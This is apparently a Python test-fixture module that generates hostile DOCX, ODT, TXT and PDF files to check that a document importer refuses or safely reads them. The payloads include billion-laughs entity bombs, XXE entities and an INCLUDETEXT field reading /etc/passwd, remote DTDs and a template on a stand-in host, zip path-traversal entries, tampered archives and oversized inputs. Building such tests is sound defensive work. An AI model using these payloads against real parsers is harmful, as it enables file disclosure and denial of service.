"""Hostile documents to import: name -> (file name, bytes). Archives that swell, XML that reads files, texts without
end."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator

from tests.echantillons import archive, document_xml, en_docx, en_odt, en_txt, paragraphe_xml, pieges
from tests.hostiles.charges import Charge

_ODT = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
SECRET = "file:///etc/passwd"


def _docx(corps: str, compression: int = zipfile.ZIP_DEFLATED, **autres: bytes) -> bytes:
    return archive({"word/document.xml": document_xml(corps), **autres}, compression)


def _odt(corps: str, entete: str = "") -> bytes:
    corps = f"<office:body><office:text>{corps}</office:text></office:body>"
    return archive(
        {"content.xml": f"{entete}<office:document-content {_ODT}>{corps}</office:document-content>".encode()}
    )


def _rires(niveaux: int = 9) -> str:
    lignes = ['<!ENTITY a0 "ha">']
    lignes += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, niveaux + 1)]
    return f"<!DOCTYPE x [{''.join(lignes)}]>"


def _truquee(octets: bytes, compression: int) -> bytes:
    """An archive whose compressed data is noise."""
    abimee = bytearray(archive({"word/document.xml": octets}, compression))
    debut = abimee.index(b"word/document.xml") + len("word/document.xml")
    abimee[debut + 4 : debut + 30] = b"\xff" * 26
    return bytes(abimee)


def _taille_mentie() -> bytes:
    """An archive that says its member small and swells it."""
    octets = bytearray(archive({"word/document.xml": document_xml(paragraphe_xml("a" * 30_000_000))}))
    place = octets.rindex(b"PK\x01\x02") + 24
    octets[place : place + 4] = (1000).to_bytes(4, "little")
    return bytes(octets)


def refuses() -> dict[str, tuple[str, bytes]]:
    """Documents that must be refused, with a message."""
    simple = document_xml(paragraphe_xml("texte"))
    externe = f'<!DOCTYPE x [<!ENTITY f SYSTEM "{SECRET}">]>'
    parametre = '<!DOCTYPE x [<!ENTITY % f SYSTEM "http://pris.example/x.dtd"> %f;]>'
    cas = {nom: (fichier, octets) for nom, (fichier, octets, _) in pieges().items()}
    cas |= {
        "rires docx": (
            "r.docx",
            archive({"word/document.xml": (_rires() + document_xml(paragraphe_xml("&a9;")).decode()).encode()}),
        ),
        "rires odt": ("r.odt", _odt("<text:p>&a9;</text:p>", _rires())),
        "rires dans les styles": (
            "s.docx",
            archive({"word/document.xml": simple, "word/styles.xml": (_rires() + "<a>&a9;</a>").encode()}),
        ),
        "rires en utf-16": ("u.docx", archive({"word/document.xml": (_rires() + "<a>&a9;</a>").encode("utf-16")})),
        "entité externe docx": ("x.docx", archive({"word/document.xml": (externe + "<x>&f;</x>").encode()})),
        "entité externe odt": ("x.odt", _odt("<text:p>&f;</text:p>", externe)),
        "entité de paramètre": ("p.docx", archive({"word/document.xml": (parametre + "<x/>").encode()})),
        "doctype distant": ("d.odt", archive({"content.xml": b'<!DOCTYPE x SYSTEM "http://pris.example/x.dtd"><x/>'})),
        "doctype public": (
            "d.docx",
            archive({"word/document.xml": b'<!DOCTYPE x PUBLIC "a" "file:///etc/passwd"><x/>'}),
        ),
        "profondeur odt": ("n.odt", _odt("<text:section>" * 300 + "</text:section>" * 300)),
        "chemin odt": ("c.odt", archive({"../../../tmp/pris": b"x", "content.xml": b"<x/>"})),
        "chemin absolu": ("c2.docx", archive({"/etc/pris": b"x", "word/document.xml": simple})),
        "chemin windows": ("c3.docx", archive({"..\\..\\pris": b"x", "word/document.xml": simple})),
        "lzma": ("l.docx", archive({"word/document.xml": simple}, zipfile.ZIP_LZMA)),
        "lzma truqué": ("l2.docx", _truquee(simple, zipfile.ZIP_LZMA)),
        "bzip2": ("b.docx", archive({"word/document.xml": simple}, zipfile.ZIP_BZIP2)),
        "deflate truqué": ("f.docx", _truquee(simple, zipfile.ZIP_DEFLATED)),
        "taille mentie": ("t.docx", _taille_mentie()),
        "trop d’éléments": ("e.docx", _docx("<a/>" * 1_200_000, zipfile.ZIP_STORED)),
        "trop d’éléments odt": (
            "e.odt",
            archive({"content.xml": b"<x>" + b"<a/>" * 1_200_000 + b"</x>"}, zipfile.ZIP_STORED),
        ),
        "paragraphe sans fin": ("g.docx", _docx(paragraphe_xml("a" * 900_000), zipfile.ZIP_STORED)),
        "lignes sans fin": ("n.txt", b"a" + b"\n" * 15_000_000 + b"b"),
        "retours sans fin": ("r.txt", b"a" + b"\r" * 15_000_000 + b"b"),
        "espaces sans fin": ("s.txt", b"mot " * 1_000_000),
        "crochets sans fin": ("c.txt", b"[" * 900_000),
        "lettres sans fin": ("l.txt", b"a" * 900_000),
        "apostrophes sans fin": ("a.txt", b"l''''" * 180_000),
        "taille": ("t.txt", b"a" * 21_000_000),
        "nul": ("nul.txt", b"a\0b"),
        "pdf sans fin": ("p.pdf", b"%PDF-1.7\n" + b"1 0 obj\n" * 100_000),
        "pdf qui se contient": (
            "q.pdf",
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 9>>endobj\ntrailer<</Root 1 0 R>>",
        ),
        "pdf vide": ("v.pdf", b"%PDF-"),
        "nom qui remonte": ("../../x.exe", b"bonjour"),
        "nom nul": ("x.do\0cx", b"bonjour"),
    }
    return cas


def inertes(charges: list[Charge]) -> Iterator[tuple[str, str, bytes]]:
    """Documents that are read: each hostile text, in each format; and what a word processor may hide."""
    ecrire = {"txt": en_txt, "docx": en_docx, "odt": en_odt}
    for rang, charge in enumerate(charges):
        propre = "".join(
            c if c in "\n\t" or (" " <= c < "\ud800") or (c > "\udfff" and c < "\ufffe") else " " for c in charge.texte
        )
        for format_ in ("txt", ("docx", "odt")[rang % 2]):
            if len(propre) <= 15_000:
                yield (
                    f"{charge} {format_}",
                    f"{charge.nom}.{format_}",
                    ecrire[format_](["Titre de l’action", *propre.split("\n")]),
                )
    champ = '<w:p><w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r></w:p>' + paragraphe_xml("Titre")
    yield "champ inclus", "champ.docx", _docx(champ)
    yield (
        "objet lié",
        "objet.docx",
        _docx('<w:object><o:OLEObject xmlns:o="o" Type="Link"/></w:object>' + paragraphe_xml("Titre")),
    )
    macro = {
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 AutoOpen",
        "word/_rels/document.xml.rels": b'<R><R Target="http://pris.example/"/></R>',
    }
    yield "macro et modèle distant", "macro.docx", _docx(paragraphe_xml("Titre"), **macro)
    yield (
        "script odt",
        "script.odt",
        _odt('<text:script xmlns:x="x" x:href="javascript:pris">pris()</text:script><text:p>Titre</text:p>'),
    )
    yield (
        "image liée",
        "image.odt",
        _odt('<text:p><draw:image xmlns:draw="d" xmlns:x="x" x:href="file:///etc/passwd"/>Titre</text:p>'),
    )
    yield (
        "instructions xml",
        "pi.docx",
        _docx('<?xml-stylesheet href="http://pris.example/x.xsl"?><?php pris ?>' + paragraphe_xml("Titre")),
    )
    yield "utf-16", "u.txt", "Titre\nÉté".encode("utf-16")
    yield "latin-1", "l.txt", "Titre\nÉté".encode("latin-1")
    yield "marque", "m.txt", "\ufeffTitre\nÉté".encode()
    yield "demi-codets", "d.txt", b"Titre\n\xed\xa0\x80\xed\xb0\x80"
    yield "créneaux innombrables", "creneaux.txt", b"08h30/09h00 : accueil\n" * 800
    yield "intitulés innombrables", "titres.txt", b"Moyens externes :\n" * 800
    yield "annonces", "annonces.txt", ("1 site " * 2_500 + "\n").encode() * 20
    yield "courriels", "courriels.txt", ("a.b-c" * 3_900 + "\n").encode() * 20
